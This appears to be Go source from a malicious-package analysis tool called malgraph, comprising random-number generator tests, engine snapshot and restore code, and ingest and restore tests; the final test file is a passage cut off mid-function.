	"math"
	"testing"
	"testing/quick"
)

func TestDeterminism(t *testing.T) {
	a := New(42)
	b := New(42)
	for i := 0; i < 1000; i++ {
		if a.Uint64() != b.Uint64() {
			t.Fatalf("streams diverged at step %d", i)
		}
	}
}

func TestDeriveIndependence(t *testing.T) {
	root := New(7)
	a := root.Derive("attacker")
	b := root.Derive("sources")
	if a.Uint64() == b.Uint64() {
		t.Fatal("derived streams should differ for different names")
	}
	// Same name twice from equivalent parents gives the same stream.
	c := New(7).Derive("attacker")
	d := New(7).Derive("attacker")
	for i := 0; i < 100; i++ {
		if c.Uint64() != d.Uint64() {
			t.Fatalf("same-name derivation diverged at %d", i)
		}
	}
}

func TestDeriveDoesNotAdvanceParent(t *testing.T) {
	a := New(5)
	_ = a.Derive("x")
	b := New(5)
	if a.Uint64() != b.Uint64() {
		t.Fatal("Derive must not consume parent stream state")
	}
}

func TestIntnBounds(t *testing.T) {
	r := New(1)
	for i := 0; i < 10000; i++ {
		n := 1 + i%17
		v := r.Intn(n)
		if v < 0 || v >= n {
			t.Fatalf("Intn(%d) = %d out of range", n, v)
		}
	}
}

func TestIntnPanicsOnNonPositive(t *testing.T) {
	defer func() {
		if recover() == nil {
			t.Fatal("expected panic for Intn(0)")
		}
	}()
	New(1).Intn(0)
}

func TestFloat64Range(t *testing.T) {
	r := New(3)
	for i := 0; i < 10000; i++ {
		f := r.Float64()
		if f < 0 || f >= 1 {
			t.Fatalf("Float64 out of [0,1): %v", f)
		}
	}
}

func TestFloat64Mean(t *testing.T) {
	r := New(11)
	var sum float64
	const n = 200000
	for i := 0; i < n; i++ {
		sum += r.Float64()
	}
	mean := sum / n
	if math.Abs(mean-0.5) > 0.01 {
		t.Fatalf("Float64 mean %v too far from 0.5", mean)
	}
}

func TestNormFloat64Moments(t *testing.T) {
	r := New(13)
	var sum, sumSq float64
	const n = 200000
	for i := 0; i < n; i++ {
		v := r.NormFloat64()
		sum += v
		sumSq += v * v
	}
	mean := sum / n
	variance := sumSq/n - mean*mean
	if math.Abs(mean) > 0.02 {
		t.Fatalf("normal mean %v too far from 0", mean)
	}
	if math.Abs(variance-1) > 0.05 {
		t.Fatalf("normal variance %v too far from 1", variance)
	}
}

func TestExpFloat64Mean(t *testing.T) {
	r := New(17)
	var sum float64
	const n = 200000
	for i := 0; i < n; i++ {
		sum += r.ExpFloat64()
	}
	if math.Abs(sum/n-1) > 0.02 {
		t.Fatalf("exponential mean %v too far from 1", sum/n)
	}
}

func TestParetoLowerBound(t *testing.T) {
	r := New(19)
	for i := 0; i < 10000; i++ {
		if v := r.Pareto(2, 1.5); v < 2 {
			t.Fatalf("Pareto(2,1.5) produced %v < xm", v)
		}
	}
}

func TestPermIsPermutation(t *testing.T) {
	r := New(23)
	f := func(nRaw uint8) bool {
		n := int(nRaw%64) + 1
		p := r.Perm(n)
		seen := make([]bool, n)
		for _, v := range p {
			if v < 0 || v >= n || seen[v] {
				return false
			}
			seen[v] = true
		}
		return true
	}
	if err := quick.Check(f, nil); err != nil {
		t.Fatal(err)
	}
}

func TestSampleDistinct(t *testing.T) {
	r := New(29)
	f := func(nRaw, kRaw uint8) bool {
		n := int(nRaw%50) + 1
		k := int(kRaw % 60)
		s := r.Sample(n, k)
		if k >= n && len(s) != n {
			return false
		}
		if k < n && len(s) != k {
			return false
		}
		seen := make(map[int]bool, len(s))
		for _, v := range s {
			if v < 0 || v >= n || seen[v] {
				return false
			}
			seen[v] = true
		}
		return true
	}
	if err := quick.Check(f, nil); err != nil {
		t.Fatal(err)
	}
}

func TestWeightedIndex(t *testing.T) {
	r := New(31)
	counts := make([]int, 3)
	weights := []float64{1, 0, 3}
	for i := 0; i < 40000; i++ {
		counts[r.WeightedIndex(weights)]++
	}
	if counts[1] != 0 {
		t.Fatalf("zero-weight index chosen %d times", counts[1])
	}
	ratio := float64(counts[2]) / float64(counts[0])
	if ratio < 2.7 || ratio > 3.3 {
		t.Fatalf("weighted ratio %v not near 3", ratio)
	}
}

func TestWeightedIndexAllZero(t *testing.T) {
	r := New(37)
	if got := r.WeightedIndex([]float64{0, 0}); got != 0 {
		t.Fatalf("all-zero weights should return 0, got %d", got)
	}
}

func TestPick(t *testing.T) {
	r := New(41)
	items := []string{"a", "b", "c"}
	seen := map[string]bool{}
	for i := 0; i < 100; i++ {
		seen[Pick(r, items)] = true
	}
	if len(seen) != 3 {
		t.Fatalf("Pick should eventually hit all items, saw %v", seen)
	}
}

func TestBoolProbability(t *testing.T) {
	r := New(43)
	hits := 0
	const n = 100000
	for i := 0; i < n; i++ {
		if r.Bool(0.25) {
			hits++
		}
	}
	frac := float64(hits) / n
	if math.Abs(frac-0.25) > 0.01 {
		t.Fatalf("Bool(0.25) frequency %v", frac)
	}
}
