package core

// Engine snapshot/restore wires the existing JSON persistence (graph,
// dataset) into the streaming architecture: a serve-mode process can
// checkpoint its engine and warm-restart without re-embedding, re-scanning
// or re-clustering anything — the expensive per-artifact products and the
// cluster state ride along with the graph.

import (
	"bytes"
	"encoding/json"
	"fmt"
	"io"
	"sort"
	"strconv"

	"malgraph/internal/collect"
	"malgraph/internal/ecosys"
	"malgraph/internal/graph"
	"malgraph/internal/reports"
	"malgraph/internal/textsim"
)

// snapshotVersion guards the wire format. Version 2 replaced the flat
// per-ecosystem cluster lists with per-LSH-partition cluster maps, so a
// warm-restarted engine re-clusters exactly the partitions the unrestored
// one would have. Version 3 added the co-existing join index (per-coordinate
// report posting lists and per-pair edge ownership), so a restored engine's
// first wanted-package ingest is report-scoped instead of an O(reports)
// re-derivation. Version 4 added the durable ingest sequence stamp
// (AppliedSeq) that lets WAL recovery skip journal records the checkpoint
// already contains; version 3 snapshots still restore (stamp 0 replays the
// whole journal, which the idempotent ingest absorbs).
const snapshotVersion = 4

// minSnapshotVersion is the oldest format RestoreEngine still accepts.
const minSnapshotVersion = 3

// snapshotItem carries a cached clustering item. SimHash fingerprints are
// full 64-bit values, so Hash travels as hex — JSON numbers lose integer
// precision past 2^53.
type snapshotItem struct {
	ID     string    `json:"id"`
	Vector []float64 `json:"vector"`
	Hash   string    `json:"hash"`
}

type engineSnapshot struct {
	Version int               `json:"version"`
	Config  Config            `json:"config"`
	Dataset json.RawMessage   `json:"dataset"` // collect full export
	Reports []*reports.Report `json:"reports"`
	Graph   json.RawMessage   `json:"graph"` // graph.WriteJSON output
	// Partitions carries each ecosystem's clusters keyed by LSH partition
	// (canonical key = smallest member node ID); the flat SimilarClusters
	// lists are re-derived by flattening in key order. The LSH index itself
	// is not serialised: partition membership is content-derived, so it is
	// rebuilt exactly from Items on restore.
	Partitions map[string]map[string][]textsim.Cluster `json:"partitions"`
	Items      map[string][]snapshotItem               `json:"items"`
	Imports    map[string][]string                     `json:"imports"`
	// Posting and PairOwners persist the co-existing join index: coordinate
	// key → URL-sorted report posting list (including coordinates not yet
	// observed — exactly the state a wanted-package arrival re-joins from)
	// and pair key → owning report URL (the URL-smallest cover whose attrs
	// the edge carries). Ownership cannot be reconstructed without replaying
	// the whole URL-ordered join, so it rides along instead.
	Posting    map[string][]string `json:"posting"`
	PairOwners map[string]string   `json:"pairOwners"`
	// AppliedSeq is the last durable ingest sequence applied before the
	// snapshot was taken: WAL records with Seq ≤ AppliedSeq are already in
	// this snapshot and must be skipped on replay. FeedPos is the feed
	// cursor at the same instant — journal truncation at a checkpoint
	// discards the feed records that would otherwise re-derive it.
	AppliedSeq uint64 `json:"appliedSeq,omitempty"`
	FeedPos    int    `json:"feedPos,omitempty"`
}

// Snapshot serialises the engine's full state: merged dataset (with
// artifacts), report corpus, graph, per-ecosystem cluster state and the
// cached per-artifact products. With a content store attached (AttachStore)
// the call writes a segmented v5 manifest instead — the delta chunks go to
// the store, the manifest to w — at O(changes since the last checkpoint);
// without one it emits the monolithic v4 stream unchanged.
func (e *Engine) Snapshot(w io.Writer) error {
	e.mu.Lock()
	defer e.mu.Unlock()
	if e.store != nil {
		return e.snapshotSegmentedLocked(w)
	}
	var ds, g bytes.Buffer
	if err := e.mg.Dataset.WriteJSON(&ds, collect.ExportFull); err != nil {
		return fmt.Errorf("snapshot dataset: %w", err)
	}
	if err := e.mg.G.WriteJSON(&g); err != nil {
		return fmt.Errorf("snapshot graph: %w", err)
	}
	snap := engineSnapshot{
		Version:    snapshotVersion,
		AppliedSeq: e.appliedSeq,
		FeedPos:    e.feedPos,
		Config:     e.cfg,
		Dataset:    ds.Bytes(),
		Reports:    e.mg.Reports,
		Graph:      g.Bytes(),
		Partitions: make(map[string]map[string][]textsim.Cluster, len(e.shards)),
		Items:      make(map[string][]snapshotItem, len(e.shards)),
		Imports:    make(map[string][]string),
		Posting:    e.posting,
		PairOwners: e.coexOwner,
	}
	// The wire format predates the shard split and stays unchanged: the
	// per-shard import caches merge into one flat map (node IDs are globally
	// unique), and each shard contributes its partition cache and item slice
	// under its ecosystem name. Shards with items but no clusters still get
	// their (possibly empty) partition map carried, so a restored engine's
	// partition cache mirrors the live one exactly.
	for eco, sh := range e.shards {
		if len(sh.items) > 0 || len(sh.clustersByPart) > 0 {
			snap.Partitions[eco.String()] = sh.clustersByPart
			out := make([]snapshotItem, 0, len(sh.items))
			for _, it := range sh.items {
				out = append(out, snapshotItem{
					ID:     it.ID,
					Vector: it.Vector,
					Hash:   strconv.FormatUint(it.Hash, 16),
				})
			}
			snap.Items[eco.String()] = out
		}
		for front, deps := range sh.importsOf {
			//malgraph:nondeterm-ok shard import maps are disjoint (node IDs embed the ecosystem), so merge order cannot collide
			snap.Imports[front] = deps
		}
	}
	return json.NewEncoder(w).Encode(&snap)
}

// RestoreEngine reconstructs an engine from a Snapshot stream. The restored
// engine continues ingesting exactly where the snapshotted one stopped: all
// caches and indexes are rebuilt, so the next batch costs the same as it
// would have without the restart.
func RestoreEngine(r io.Reader) (*Engine, error) {
	var snap engineSnapshot
	if err := json.NewDecoder(r).Decode(&snap); err != nil {
		return nil, fmt.Errorf("restore decode: %w", err)
	}
	if snap.Version == snapshotVersionSegmented {
		return nil, fmt.Errorf("restore: snapshot version %d is a segmented manifest; restore it with its content store (RestoreEngineWithStore / -store)",
			snap.Version)
	}
	if snap.Version < minSnapshotVersion {
		return nil, fmt.Errorf("restore: snapshot version %d predates the minimum supported version %d",
			snap.Version, minSnapshotVersion)
	}
	if snap.Version > snapshotVersion {
		return nil, fmt.Errorf("restore: snapshot version %d, want %d..%d",
			snap.Version, minSnapshotVersion, snapshotVersion)
	}
	ds, err := collect.ReadJSON(bytes.NewReader(snap.Dataset))
	if err != nil {
		return nil, fmt.Errorf("restore dataset: %w", err)
	}
	g, err := graph.ReadJSON(bytes.NewReader(snap.Graph))
	if err != nil {
		return nil, fmt.Errorf("restore graph: %w", err)
	}
	return restoreFromParts(ds, g, &snap)
}

// restoreFromParts rebuilds an engine from decoded snapshot components —
// the shared tail of the monolithic (v3/v4) and segmented (v5) restore
// paths. snap supplies everything except the dataset and graph, which the
// two formats decode differently.
func restoreFromParts(ds *collect.Result, g *graph.Graph, snap *engineSnapshot) (*Engine, error) {
	e := NewEngine(snap.Config)
	e.appliedSeq = snap.AppliedSeq
	e.feedPos = snap.FeedPos
	e.mg.G = g
	e.mg.Dataset = ds
	e.mg.Reports = snap.Reports
	sort.Slice(e.mg.Reports, func(i, j int) bool { return e.mg.Reports[i].URL < e.mg.Reports[j].URL })

	ecoByName := make(map[string]ecosys.Ecosystem, len(ecosys.All()))
	for _, eco := range ecosys.All() {
		ecoByName[eco.String()] = eco
	}
	for name, items := range snap.Items {
		eco, ok := ecoByName[name]
		if !ok {
			return nil, fmt.Errorf("restore: unknown ecosystem %q in items", name)
		}
		sh := e.shardLocked(eco)
		// Headroom keeps the first post-restore inserts from recopying the
		// whole ID-sorted slice (insertItem shifts in place within capacity).
		restored := make([]textsim.Item, 0, len(items)+len(items)/8+16)
		for _, it := range items {
			hash, err := strconv.ParseUint(it.Hash, 16, 64)
			if err != nil {
				return nil, fmt.Errorf("restore: bad fingerprint for %s: %w", it.ID, err)
			}
			restored = append(restored, textsim.Item{ID: it.ID, Vector: it.Vector, Hash: hash})
		}
		sort.Slice(restored, func(i, j int) bool { return restored[i].ID < restored[j].ID })
		sh.items = restored
		// Rebuild the LSH partition index from the cached fingerprints —
		// partition membership and canonical keys are content-derived, so
		// this reproduces the snapshotted engine's index exactly.
		idx := textsim.NewLSHIndex(e.cfg.Cluster)
		for _, it := range restored {
			idx.Add(it.ID, it.Hash, it.Vector)
		}
		// Rebuild-time retirements predate the snapshot's partition cache,
		// which is already keyed canonically — drain them so the first
		// post-restore ingest doesn't pay an O(corpus) stale-key sweep the
		// uninterrupted engine never sees.
		idx.DrainRetired()
		sh.lsh = idx
	}
	for name, parts := range snap.Partitions {
		eco, ok := ecoByName[name]
		if !ok {
			return nil, fmt.Errorf("restore: unknown ecosystem %q in partitions", name)
		}
		sh := e.shardLocked(eco)
		for key := range parts {
			if sh.lsh == nil || sh.lsh.Members(key) == nil {
				return nil, fmt.Errorf("restore: %s partition %q is not canonical in the rebuilt LSH index", name, key)
			}
		}
		sh.clustersByPart = parts
		//malgraph:nondeterm-ok eco is a bijective rename of the range key, so this writes each ecosystem exactly once
		e.mg.SimilarClusters[eco] = flattenClusters(parts)
	}

	// Rebuild the in-memory indexes from the merged dataset and caches.
	for _, en := range ds.Entries {
		sh := e.shardLocked(en.Coord.Ecosystem)
		name := en.Coord.Name
		id := NodeID(en.Coord)
		sh.byName[name] = append(sh.byName[name], id)
		sh.corpus[name] = true
		e.mg.entryByID[id] = en
	}
	// The wire format carries one flat import map; split it back into the
	// per-ecosystem shards (node IDs resolve their ecosystem via the dataset)
	// and rebuild each reverse import index in sorted front order so future
	// edge insertions stay deterministic.
	fronts := make([]string, 0, len(snap.Imports))
	for front := range snap.Imports {
		fronts = append(fronts, front)
	}
	sort.Strings(fronts)
	for _, front := range fronts {
		en, ok := e.mg.entryByID[front]
		if !ok {
			return nil, fmt.Errorf("restore: import cache references unknown node %s", front)
		}
		sh := e.shardLocked(en.Coord.Ecosystem)
		sh.importsOf[front] = snap.Imports[front]
		for _, dep := range snap.Imports[front] {
			sh.importers[dep] = append(sh.importers[dep], front)
		}
	}
	// Rebuild the per-package report index from the URL-sorted corpus (the
	// appends preserve global URL order) and restore the join index. The
	// posting lists and pair ownership come from the snapshot verbatim — a
	// restored engine's next wanted-package ingest re-joins exactly the
	// scope the uninterrupted engine would, without an O(reports) pass.
	for _, rep := range e.mg.Reports {
		e.reportByURL[rep.URL] = rep
		seen := make(map[string]bool, len(rep.Packages))
		for _, coord := range rep.Packages {
			id := NodeID(coord)
			if seen[id] {
				continue
			}
			seen[id] = true
			if _, ok := e.mg.G.Node(id); ok {
				e.mg.ReportsByPackage[id] = append(e.mg.ReportsByPackage[id], rep)
			}
		}
	}
	if snap.Posting != nil {
		e.posting = snap.Posting
	}
	if snap.PairOwners != nil {
		e.coexOwner = snap.PairOwners
	}
	return e, nil
}
