package core

import (
	"bytes"
	"fmt"
	"reflect"
	"sort"
	"testing"

	"malgraph/internal/collect"
	"malgraph/internal/ecosys"
	"malgraph/internal/graph"
	"malgraph/internal/reports"
	"malgraph/internal/xrand"
)

// graphSig summarises a graph as a partition-order-independent signature:
// sorted node IDs and the sorted (type, endpoints, attr) edge set. Two
// graphs with equal signatures have identical components and identical
// analysis inputs, whatever order their edges were inserted in.
func graphSig(t *testing.T, mg *MalGraph) string {
	t.Helper()
	var b bytes.Buffer
	for _, id := range mg.G.NodeIDs() {
		n, _ := mg.G.Node(id)
		keys := make([]string, 0, len(n.Attrs))
		for k := range n.Attrs {
			keys = append(keys, k)
		}
		sort.Strings(keys)
		fmt.Fprintf(&b, "N %s", id)
		for _, k := range keys {
			fmt.Fprintf(&b, " %s=%s", k, n.Attrs[k])
		}
		b.WriteByte('\n')
	}
	var lines []string
	for _, e := range mg.G.Edges() {
		from, to := e.From, e.To
		if e.Type != graph.Dependency && from > to {
			from, to = to, from
		}
		keys := make([]string, 0, len(e.Attrs))
		for k := range e.Attrs {
			keys = append(keys, k)
		}
		sort.Strings(keys)
		line := fmt.Sprintf("E %d %s %s", e.Type, from, to)
		for _, k := range keys {
			line += " " + k + "=" + e.Attrs[k]
		}
		lines = append(lines, line)
	}
	sort.Strings(lines)
	for _, l := range lines {
		b.WriteString(l)
		b.WriteByte('\n')
	}
	return b.String()
}

// ingestPartitioned shuffles the dataset with a seeded RNG, splits it into k
// entry batches with reports interleaved round-robin, and ingests them.
func ingestPartitioned(t *testing.T, ds *collect.Result, reps []*reports.Report, k int, shuffleSeed uint64) *Engine {
	t.Helper()
	entries := make([]*collect.Entry, len(ds.Entries))
	copy(entries, ds.Entries)
	rng := xrand.New(shuffleSeed)
	for i := len(entries) - 1; i > 0; i-- {
		j := int(rng.Uint64() % uint64(i+1))
		entries[i], entries[j] = entries[j], entries[i]
	}
	eng := NewEngine(DefaultConfig())
	for b := 0; b < k; b++ {
		lo, hi := b*len(entries)/k, (b+1)*len(entries)/k
		batch := Batch{Entries: entries[lo:hi], At: ds.CollectedAt}
		for ri, r := range reps {
			if ri%k == b {
				batch.Reports = append(batch.Reports, r)
			}
		}
		if _, err := eng.Ingest(batch); err != nil {
			t.Fatalf("ingest batch %d/%d: %v", b+1, k, err)
		}
	}
	return eng
}

func assertEngineMatchesBuild(t *testing.T, eng *Engine, want *MalGraph, label string) {
	t.Helper()
	got := eng.Graph()
	if gs, ws := graphSig(t, got), graphSig(t, want); gs != ws {
		t.Errorf("%s: graph signature differs (got %d bytes, want %d bytes)", label, len(gs), len(ws))
	}
	for _, et := range graph.EdgeTypes() {
		if g, w := got.G.EdgeCount(et), want.G.EdgeCount(et); g != w {
			t.Errorf("%s: %s edges = %d, want %d", label, et, g, w)
		}
		if g, w := got.PackageSubgraphs(et, 2), want.PackageSubgraphs(et, 2); !reflect.DeepEqual(g, w) {
			t.Errorf("%s: %s subgraphs differ:\n got %v\nwant %v", label, et, g, w)
		}
	}
	if !reflect.DeepEqual(got.SimilarClusters, want.SimilarClusters) {
		t.Errorf("%s: similar clusters differ", label)
	}
	if !reflect.DeepEqual(got.DuplicateGroups(), want.DuplicateGroups()) {
		t.Errorf("%s: duplicate groups differ", label)
	}
	if g, w := len(got.ReportsByPackage), len(want.ReportsByPackage); g != w {
		t.Errorf("%s: reports-by-package size = %d, want %d", label, g, w)
	}
	for id, wantReps := range want.ReportsByPackage {
		gotReps := got.ReportsByPackage[id]
		if len(gotReps) != len(wantReps) {
			t.Errorf("%s: reports for %s = %d, want %d", label, id, len(gotReps), len(wantReps))
			continue
		}
		for i := range wantReps {
			if gotReps[i].URL != wantReps[i].URL {
				t.Errorf("%s: report %d for %s = %s, want %s", label, i, id, gotReps[i].URL, wantReps[i].URL)
			}
		}
	}
}

// TestEngineBatchPartitionsMatchBuild is the core-level determinism
// contract: any shuffled partition of the corpus, ingested batch by batch,
// yields the same components, edge sets and clusters as a one-shot Build.
func TestEngineBatchPartitionsMatchBuild(t *testing.T) {
	ds, reps := miniDataset(t)
	want, err := Build(ds, reps, DefaultConfig())
	if err != nil {
		t.Fatal(err)
	}
	for _, k := range []int{1, 2, 3, 5} {
		for shuffle := uint64(1); shuffle <= 3; shuffle++ {
			eng := ingestPartitioned(t, ds, reps, k, shuffle)
			assertEngineMatchesBuild(t, eng, want, fmt.Sprintf("k=%d shuffle=%d", k, shuffle))
		}
	}
}

// TestEngineIngestIdempotent re-ingests the full corpus into an
// already-complete engine: everything must no-op.
func TestEngineIngestIdempotent(t *testing.T) {
	ds, reps := miniDataset(t)
	eng := NewEngine(DefaultConfig())
	if _, err := eng.Ingest(Batch{Entries: ds.Entries, Reports: reps, At: ds.CollectedAt}); err != nil {
		t.Fatal(err)
	}
	before := graphSig(t, eng.Graph())
	beforeStats := fmt.Sprintf("%+v", eng.Dataset().PerSource)
	// Replayed batches carry their accounting too (a warm-restarted server
	// drains the same feed); nothing may double-count.
	replay := ds.BatchOf(ds.Entries)
	st, err := eng.Ingest(Batch{Entries: ds.Entries, PerSource: replay.PerSource, Reports: reps})
	if err != nil {
		t.Fatal(err)
	}
	if after := fmt.Sprintf("%+v", eng.Dataset().PerSource); after != beforeStats {
		t.Fatalf("re-ingest double-counted source stats:\n before %s\n after  %s", beforeStats, after)
	}
	if st.NewEntries != 0 || st.UpdatedEntries != 0 || st.NewArtifacts != 0 || st.NewReports != 0 {
		t.Fatalf("re-ingest changed state: %+v", st)
	}
	if st.SimilarChanged() || st.CoexistingChanged() || st.DependencyChanged() || st.DatasetChanged() {
		t.Fatalf("re-ingest dirtied analyses: %+v", st)
	}
	if after := graphSig(t, eng.Graph()); after != before {
		t.Fatal("re-ingest mutated the graph")
	}
}

// TestEngineIngestStats sanity-checks the invalidation signal on a fresh
// full ingest.
func TestEngineIngestStats(t *testing.T) {
	ds, reps := miniDataset(t)
	eng := NewEngine(DefaultConfig())
	st, err := eng.Ingest(Batch{Entries: ds.Entries, Reports: reps, At: ds.CollectedAt})
	if err != nil {
		t.Fatal(err)
	}
	if st.NewEntries != len(ds.Entries) || st.NewArtifacts != len(ds.Available()) {
		t.Fatalf("entry counts: %+v", st)
	}
	if st.NewReports != len(reps) {
		t.Fatalf("report counts: %+v", st)
	}
	// A fresh in-order corpus is the pure append path: no report needed a
	// re-join and nothing was rebuilt, yet the stage still changed.
	if st.CoexistingRebuilt || st.CoexistingScoped || st.ReportsRejoined != 0 || !st.CoexistingChanged() {
		t.Fatalf("coexisting scope on fresh ingest: %+v", st)
	}
	if !st.SimilarChanged() || !st.DependencyChanged() || !st.DatasetChanged() {
		t.Fatalf("dirty flags: %+v", st)
	}
	if st.DuplicatedDelta != eng.Graph().G.EdgeCount(graph.Duplicated) ||
		st.SimilarDelta != eng.Graph().G.EdgeCount(graph.Similar) ||
		st.DependencyDelta != eng.Graph().G.EdgeCount(graph.Dependency) ||
		st.CoexistingDelta != eng.Graph().G.EdgeCount(graph.Coexisting) {
		t.Fatalf("edge deltas on fresh ingest must equal totals: %+v", st)
	}
}

// TestEngineSnapshotRestore checkpoints mid-stream, restores, finishes
// ingesting, and requires the result to match both the uninterrupted engine
// and the one-shot Build.
func TestEngineSnapshotRestore(t *testing.T) {
	ds, reps := miniDataset(t)
	want, err := Build(ds, reps, DefaultConfig())
	if err != nil {
		t.Fatal(err)
	}

	half := len(ds.Entries) / 2
	first := Batch{Entries: ds.Entries[:half], PerSource: ds.BatchOf(ds.Entries[:half]).PerSource, Reports: reps[:1], At: ds.CollectedAt}
	second := Batch{Entries: ds.Entries[half:], PerSource: ds.BatchOf(ds.Entries[half:]).PerSource, Reports: reps[1:]}
	eng := NewEngine(DefaultConfig())
	if _, err := eng.Ingest(first); err != nil {
		t.Fatal(err)
	}
	var snap bytes.Buffer
	if err := eng.Snapshot(&snap); err != nil {
		t.Fatal(err)
	}
	restored, err := RestoreEngine(bytes.NewReader(snap.Bytes()))
	if err != nil {
		t.Fatal(err)
	}
	// The restored engine must already match the snapshotted one.
	if a, b := graphSig(t, eng.Graph()), graphSig(t, restored.Graph()); a != b {
		t.Fatal("restored graph differs from snapshotted graph")
	}
	// A warm-restarted server replays the whole feed: the first batch must
	// no-op (including its accounting), the second completes the corpus.
	for _, b := range []Batch{first, second} {
		if _, err := restored.Ingest(b); err != nil {
			t.Fatal(err)
		}
	}
	assertEngineMatchesBuild(t, restored, want, "restored")
	wantStats := ds.BatchOf(ds.Entries).PerSource
	for id, w := range wantStats {
		if got := restored.Dataset().PerSource[id]; got != w {
			t.Fatalf("replayed accounting for %s = %+v, want %+v", id, got, w)
		}
	}

	if restored.Dataset().TotalMR() != ds.TotalMR() {
		t.Fatalf("restored dataset MR %v, want %v", restored.Dataset().TotalMR(), ds.TotalMR())
	}
	if len(restored.Reports()) != len(reps) {
		t.Fatalf("restored reports = %d", len(restored.Reports()))
	}
}

// TestEngineLateArtifactUpsert exercises the merge path: a package first
// observed without an artifact gains one (plus a second source) later and
// must join the similarity stage and the duplicated cliques.
func TestEngineLateArtifactUpsert(t *testing.T) {
	ds, reps := miniDataset(t)
	eng := NewEngine(DefaultConfig())

	// Strip the artifact and second/third sources off the duplicated entry.
	var full *collect.Entry
	stripped := make([]*collect.Entry, 0, len(ds.Entries))
	for _, e := range ds.Entries {
		if e.Coord.Name == "acookie" {
			full = e
			bare := *e
			bare.Artifact = nil
			bare.Availability = collect.Missing
			bare.Sources = e.Sources[:1]
			stripped = append(stripped, &bare)
			continue
		}
		stripped = append(stripped, e)
	}
	if full == nil {
		t.Fatal("fixture missing acookie")
	}
	if _, err := eng.Ingest(Batch{Entries: stripped, Reports: reps, At: ds.CollectedAt}); err != nil {
		t.Fatal(err)
	}
	if got := eng.Graph().G.EdgeCount(graph.Duplicated); got != 0 {
		t.Fatalf("premature duplicated edges: %d", got)
	}

	st, err := eng.Ingest(Batch{Entries: []*collect.Entry{full}})
	if err != nil {
		t.Fatal(err)
	}
	if st.NewEntries != 0 || st.UpdatedEntries != 1 || st.NewArtifacts != 1 {
		t.Fatalf("upsert stats: %+v", st)
	}
	if got := eng.Graph().G.EdgeCount(graph.Duplicated); got != 3 { // C(3,2)
		t.Fatalf("duplicated edges after upsert = %d", got)
	}
	merged, ok := eng.Graph().EntryByNodeID(NodeID(full.Coord))
	if !ok || merged.Artifact == nil || len(merged.Sources) != 3 {
		t.Fatalf("merged entry wrong: %+v ok=%v", merged, ok)
	}
	n, _ := eng.Graph().G.Node(NodeID(full.Coord))
	if n.Attrs["occ"] != "3" || n.Attrs["avail"] != collect.FromSource.String() {
		t.Fatalf("node attrs not refreshed: %v", n.Attrs)
	}
}

// TestEngineRestoreReclustersSamePartitions is the LSH persistence contract:
// a restored engine carries the same partition structure and per-partition
// cluster cache, so its next ingest re-clusters exactly the partitions the
// uninterrupted engine would — no more (no O(ecosystem) fallback), no fewer.
func TestEngineRestoreReclustersSamePartitions(t *testing.T) {
	ds, reps := miniDataset(t)
	half := len(ds.Entries) - 2
	warm := Batch{Entries: ds.Entries[:half], Reports: reps, At: ds.CollectedAt}
	delta := Batch{Entries: ds.Entries[half:]}

	live := NewEngine(DefaultConfig())
	if _, err := live.Ingest(warm); err != nil {
		t.Fatal(err)
	}
	var snap bytes.Buffer
	if err := live.Snapshot(&snap); err != nil {
		t.Fatal(err)
	}
	restored, err := RestoreEngine(bytes.NewReader(snap.Bytes()))
	if err != nil {
		t.Fatal(err)
	}

	// The rebuilt LSH index must expose identical partitions per ecosystem.
	for eco, sh := range live.shards {
		if sh.lsh == nil {
			continue
		}
		rsh := restored.shards[eco]
		if rsh == nil || rsh.lsh == nil {
			t.Fatalf("%s: restored engine lost its LSH index", eco)
		}
		wantParts, gotParts := sh.lsh.Partitions(), rsh.lsh.Partitions()
		if !reflect.DeepEqual(gotParts, wantParts) {
			t.Fatalf("%s: partitions differ: got %v want %v", eco, gotParts, wantParts)
		}
		for _, key := range wantParts {
			if !reflect.DeepEqual(rsh.lsh.Members(key), sh.lsh.Members(key)) {
				t.Fatalf("%s: members of %s differ", eco, key)
			}
		}
		if !reflect.DeepEqual(rsh.clustersByPart, sh.clustersByPart) {
			t.Fatalf("%s: restored per-partition cluster cache differs", eco)
		}
	}

	// The same delta must produce identical recluster scope and final state.
	liveStats, err := live.Ingest(delta)
	if err != nil {
		t.Fatal(err)
	}
	restoredStats, err := restored.Ingest(delta)
	if err != nil {
		t.Fatal(err)
	}
	if liveStats.PartitionsReclustered != restoredStats.PartitionsReclustered ||
		liveStats.ArtifactsReclustered != restoredStats.ArtifactsReclustered ||
		liveStats.DirtyEcoItems != restoredStats.DirtyEcoItems {
		t.Fatalf("recluster scope differs:\n live     %+v\n restored %+v", liveStats, restoredStats)
	}
	if liveStats.SimilarDelta != restoredStats.SimilarDelta {
		t.Fatalf("similar deltas differ: %d vs %d", liveStats.SimilarDelta, restoredStats.SimilarDelta)
	}
	if a, b := graphSig(t, live.Graph()), graphSig(t, restored.Graph()); a != b {
		t.Fatal("post-delta graphs differ")
	}
	if !reflect.DeepEqual(live.Graph().SimilarClusters, restored.Graph().SimilarClusters) {
		t.Fatal("post-delta clusters differ")
	}
}

// TestEngineIngestScopeAccounting checks the recluster-scope stats: a delta
// landing in one known family re-clusters that family's partition (plus any
// partitions its own artifacts form), never the whole ecosystem.
func TestEngineIngestScopeAccounting(t *testing.T) {
	ds, reps := miniDataset(t)
	// Hold back one alpha variant (a member of the camA similarity family).
	var held *collect.Entry
	rest := make([]*collect.Entry, 0, len(ds.Entries))
	for _, e := range ds.Entries {
		if e.Coord.Name == "alpha-three" {
			held = e
			continue
		}
		rest = append(rest, e)
	}
	if held == nil {
		t.Fatal("fixture missing alpha-three")
	}
	eng := NewEngine(DefaultConfig())
	if _, err := eng.Ingest(Batch{Entries: rest, Reports: reps, At: ds.CollectedAt}); err != nil {
		t.Fatal(err)
	}
	st, err := eng.Ingest(Batch{Entries: []*collect.Entry{held}})
	if err != nil {
		t.Fatal(err)
	}
	if st.PartitionsReclustered != 1 {
		t.Fatalf("partitions reclustered = %d, want 1 (alpha family only): %+v", st.PartitionsReclustered, st)
	}
	if st.ArtifactsReclustered >= st.DirtyEcoItems {
		t.Fatalf("re-cluster scope not partial: %d of %d", st.ArtifactsReclustered, st.DirtyEcoItems)
	}
	if st.ArtifactsReclustered != 3 { // alpha-one, alpha-two, alpha-three
		t.Fatalf("artifacts reclustered = %d, want 3", st.ArtifactsReclustered)
	}
}

// --- Scoped co-existing re-join (ISSUE 5) ---

// holdOut splits the fixture dataset into (rest, held) around one package name.
func holdOut(t *testing.T, ds *collect.Result, name string) (rest []*collect.Entry, held *collect.Entry) {
	t.Helper()
	for _, e := range ds.Entries {
		if e.Coord.Name == name {
			held = e
			continue
		}
		rest = append(rest, e)
	}
	if held == nil {
